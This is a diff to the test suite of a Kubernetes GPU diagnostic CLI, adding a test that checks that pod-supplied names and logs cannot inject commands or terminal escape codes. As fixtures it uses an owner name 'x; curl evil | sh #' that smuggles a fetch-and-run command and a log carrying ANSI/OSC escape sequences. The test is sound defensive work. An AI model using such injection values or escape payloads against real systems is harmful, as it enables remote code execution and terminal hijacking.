@@ -9,6 +9,8 @@ from msgspec.structs import replace
 
 from agent.cli.doctor.cluster import read_cluster
 from agent.cli.doctor.cluster_symptoms import findings
+from agent.cli.doctor.host import HostDiagnosis
+from agent.cli.doctor.words import ClusterDiagnosis, Report, in_words
 from agent.model.cluster import Cluster
 from agent.model.finding import Finding
 from tests.fakes.host import Host
@@ -124,6 +126,19 @@ def test_the_plugin_crashes(log: str, cause: str) -> None:
     assert cause in finding.cause
     assert "kube-system/nvidia-device-plugin-x" in finding.evidence
     assert finding.fix
+
+
+def test_attack_what_a_pod_says_controls_neither_the_terminal_nor_a_command() -> None:
+    """Any pod may write this as its log or last message; whoever makes a pod may call its owner anything."""
+    owner = [{"kind": "DaemonSet", "name": "x; curl evil | sh #"}]
+    plugin = changed(PLUGIN, "status", "containerStatuses", to=CRASHED)
+    plugin = changed(plugin, "metadata", "ownerReferences", to=owner)
+    log = "invalid strategy: \x1b[2J\x1b]0;evil\x07"
+    finding = only(cluster(plugin, logs={"kube-system/nvidia-device-plugin-x": log}))
+    assert "set env 'daemonset/x; curl evil | sh #' DEVICE_LIST_STRATEGY" in finding.fix[0]
+    lines = list(in_words(Report((), HostDiagnosis(), ClusterDiagnosis((finding,)))))
+    assert any("evil" in line for line in lines)
+    assert all(line.isprintable() for line in lines)
 
 
 def test_a_wrong_strategy_is_corrected_where_it_is_set() -> None:
